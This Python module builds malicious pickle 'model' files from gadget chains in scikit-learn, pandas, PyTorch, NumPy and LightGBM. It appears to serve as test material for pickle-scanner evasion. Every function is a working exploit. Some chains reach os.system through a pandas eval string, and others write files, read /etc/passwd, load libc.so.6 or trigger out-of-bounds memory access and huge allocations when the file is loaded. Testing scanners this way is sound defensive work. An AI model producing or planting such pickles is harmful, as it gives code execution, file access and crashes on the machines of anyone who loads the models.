"""Vectors of objects that are harmless one by one: what one keeps is called, gone through or asked for a method by another."""

import copyreg
import pickle

from attack import COMMAND, Table

ATTACKS = Table()
# pandas evaluates it where the caller's names are seen; scikit-learn has NumPy as "np".
TEXT = f"@np.f2py.os.system('{COMMAND}')"


class Made:
    """Pickled as what a call gives."""

    def __init__(self, *reduced):
        self.reduced = reduced

    def __reduce__(self):
        return self.reduced


def stacked(method="eval"):
    """A classifier that calls a method of a table by its name."""
    import numpy
    import pandas
    from sklearn.ensemble import StackingClassifier
    from sklearn.frozen import FrozenEstimator
    from sklearn.linear_model import LogisticRegression

    rows = numpy.random.default_rng(0).random((20, 2))
    model = StackingClassifier([("a", LogisticRegression())], final_estimator=LogisticRegression(), cv=2).fit(rows, rows[:, 0] > 0.5)
    model.estimators_, model.stack_method_ = [FrozenEstimator(pandas.DataFrame({"a": [1.0, 2.0]}))], [method]
    return model


def interpolation(text):
    """Something to call that calls a method of a table with a text."""
    from scipy.interpolate import interp1d
    from sklearn.linear_model._stochastic_gradient import _ValidationScoreCallback

    score, made = _ValidationScoreCallback.__new__(_ValidationScoreCallback), interp1d([0.0, 1.0], [0.0, 1.0])
    vars(score).update(estimator=stacked(), X_val=text, y_val=[0], sample_weight_val=None)
    vars(made).update(_call=score, reshape=max)
    return made


def optimizer(groups):
    import torch

    made = torch.optim.SGD([torch.nn.Parameter(torch.zeros(1))], lr=0.1)
    made.param_groups, made.state = groups, {}
    return made


def written(folder, value):
    path = folder / "model.pkl"
    path.write_bytes(pickle.dumps(value, 4))
    return path


@ATTACKS.made("unlisted-gadget/optimizer_of_a_loader", fire="pickle")
def _(folder):
    import torch

    return written(folder, optimizer(torch.utils.data.DataLoader([0.5], batch_size=None, collate_fn=interpolation(TEXT))))


@ATTACKS.made("unlisted-gadget/optimizer_of_a_module", fire="pickle")
def _(folder):
    import torch

    layers, decoder, group = torch.nn.Sequential(), torch.nn.TransformerDecoderLayer(2, 1), torch.nn.Identity()
    layers._modules |= {"0": len, "1": interpolation(TEXT)}
    decoder.norm_first, decoder._modules["norm1"] = True, layers
    group._modules["setdefault"] = decoder
    return written(folder, optimizer([group]))


@ATTACKS.made("unlisted-gadget/module_of_averages_with_a_class")
def _(folder):
    import torch

    averages = torch.optim.swa_utils.AveragedModel(torch.nn.Linear(1, 1))
    averages._modules["module"] = len
    return written(folder, averages)


@ATTACKS.made("unlisted-gadget/method_by_its_name")
def _(folder):
    import numpy
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer

    text = FunctionTransformer(numpy.full_like, kw_args={"fill_value": TEXT, "dtype": numpy.dtype("O"), "shape": ()})
    return written(folder, make_pipeline(text, FunctionTransformer(numpy.max), stacked()))


@ATTACKS.made("unlisted-gadget/method_by_its_name_that_writes")
def _(folder):
    import pathlib

    model = stacked("write_bytes")
    model.estimators_[0].estimator = pathlib.PurePosixPath("elsewhere")
    return written(folder, model)


@ATTACKS.made("unlisted-gadget/method_of_a_scorer")
def _(folder):
    from sklearn.metrics import accuracy_score, make_scorer

    scorer = make_scorer(accuracy_score)
    scorer._response_method = "eval"
    return written(folder, scorer)


@ATTACKS.made("unlisted-gadget/loader_of_a_class")
def _(folder):
    import torch

    return written(folder, torch.utils.data.DataLoader(["libc.so.6"], batch_size=None, collate_fn=torch.UntypedStorage))


@ATTACKS.made("unlisted-gadget/class_with_a_file_kept")
def _(folder):
    import lightgbm
    from sklearn.preprocessing import FunctionTransformer

    return written(folder, FunctionTransformer(lightgbm.Booster, kw_args={"model_file": "/etc/passwd"}))


@ATTACKS.made("unlisted-gadget/array_interface_of_a_bunch")
def _(folder):
    from sklearn.isotonic import IsotonicRegression
    from sklearn.utils import Bunch

    interface = Bunch(__array_interface__={"data": (4096, False), "shape": (4,), "typestr": "<f8", "version": 3})
    state = vars(IsotonicRegression().fit([1, 2, 3, 4], [1, 2, 3, 4])) | {"X_thresholds_": interface, "y_thresholds_": [0.0, 1.0, 2.0, 3.0]}
    state.pop("f_")
    return written(folder, Made(copyreg._reconstructor, (IsotonicRegression, object, None), state))


@ATTACKS.made("unlisted-gadget/criterion_of_other_sizes")
def _(folder):
    import numpy
    from sklearn.tree._criterion import Gini

    return written(folder, Made(Gini, (1 << 24, numpy.array([1]))))


@ATTACKS.made("unlisted-gadget/function_of_an_estimator_called")
def _(folder):
    from sklearn.metrics import accuracy_score

    return written(folder, Made(accuracy_score, ([1], [1])))


@ATTACKS.made("unlisted-gadget/function_of_torch_called")
def _(folder):
    import torch

    return written(folder, Made(torch.nn.functional.ctc_loss, (torch.zeros(1, 1, 2), torch.tensor([[1 << 30]]), torch.tensor([1]), torch.tensor([1]))))


@ATTACKS.made("unlisted-gadget/array_before_its_state")
def _(folder):
    import numpy
    from numpy._core.multiarray import _reconstruct

    return written(folder, Made(_reconstruct, (numpy.ndarray, (1 << 23,), "f4")))


@ATTACKS.made("unlisted-gadget/scalar_of_an_array")
def _(folder):
    import numpy
    from numpy._core.multiarray import scalar

    return written(folder, Made(scalar, (numpy.dtype([("a", "O")]), numpy.zeros(0, [("a", "O")]))))


@ATTACKS.made("unlisted-gadget/generator_beyond_its_numbers")
def _(folder):
    import numpy

    generator = numpy.random.MT19937(0)
    state = generator.state
    state["state"]["pos"] = 1 << 30
    function, arguments, rest = generator.__reduce__()[:3]
    return written(folder, Made(function, arguments, (state, *rest[1:]) if isinstance(rest, tuple) else state))
